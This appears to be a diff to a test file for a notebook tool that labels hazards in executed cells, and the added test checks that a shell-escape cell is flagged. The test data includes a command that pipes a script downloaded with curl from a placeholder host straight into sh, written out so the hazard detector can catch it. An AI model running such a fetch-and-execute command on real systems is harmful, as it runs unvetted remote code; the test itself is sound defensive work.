@@ -76,6 +76,10 @@ describe("the desk of notebooks", () => {
     assert.deepEqual((await desk.state({ notebook: "d.ipynb", cells: [cell] })).cells[0]?.hazards, []);
     await desk.executed({ notebook: "d.ipynb", cell: "x", language: "python", source, above: [], executionOrder: 1, started: 1, output: "", error: null });
     assert.deepEqual((await desk.state({ notebook: "d.ipynb", cells: [cell] })).cells[0]?.hazards, ["deletes build", "overwrites out.csv"]);
+    // What the judge of commands knows counts for the lines that go to the shell.
+    const shell = { id: "s", language: "python", source: "!ls\n!curl -s https://example.org/x.sh | sh" };
+    await desk.executed({ notebook: "s.ipynb", cell: "s", language: "python", source: shell.source, above: [], executionOrder: 1, started: 1, output: "", error: null });
+    assert.equal((await desk.state({ notebook: "s.ipynb", cells: [shell] })).cells[0]?.hazards.length, 1);
   });
 
   it("makes episodes of executions: what failed, what mended it, and the names between cells", async () => {
